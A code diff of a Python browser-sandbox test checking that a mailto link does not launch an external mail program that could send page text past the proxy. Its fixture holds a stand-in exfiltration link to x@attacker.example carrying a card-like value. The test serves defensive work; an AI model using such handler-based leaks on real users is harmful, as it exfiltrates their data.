@@ -11,6 +11,7 @@ import pytest_asyncio
 from playwright.async_api import Error
 
 from midcourse.domain.observation import Zone
+from midcourse.worlds.browser.chromium import system_chromium
 from midcourse.worlds.browser.page import tabs
 from tests.pages import Pages, serve_bytes
 from tests.worlds.browser.visitor import Visitor, ok, page_of, visiting
@@ -237,14 +238,14 @@ async def leave_silent_page(visitor: Visitor) -> None:
 
 @pytest.mark.skipif(sys.platform != "linux", reason="elsewhere Chromium does not look for these programs")
 async def test_mailto_link_starts_no_program(pages: Pages, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
-    """A program would send text of the page past the proxy."""
+    """A program would send text of the page past the proxy. The headless shell never starts one; the full Chromium could."""
     started, programs = tmp_path / "started", tmp_path / "programs"
     programs.mkdir()
     for name in ("xdg-email", "xdg-open"):
         (programs / name).write_text(f"#!/bin/sh\necho $0 >> {started}\n")
         (programs / name).chmod(0o700)
     monkeypatch.setenv("PATH", f"{programs}:{os.environ['PATH']}")
-    async with visiting(pages) as visitor:
+    async with visiting(pages, executable=system_chromium(headed=True) or "") as visitor:
         await visitor.visit("<a href='mailto:x@attacker.example?body=4111'>Details</a>")
         async with page_of(visitor).expect_console_message(lambda said: "external handler" in said.text):
             ok(await visitor.on("Details", "click"))
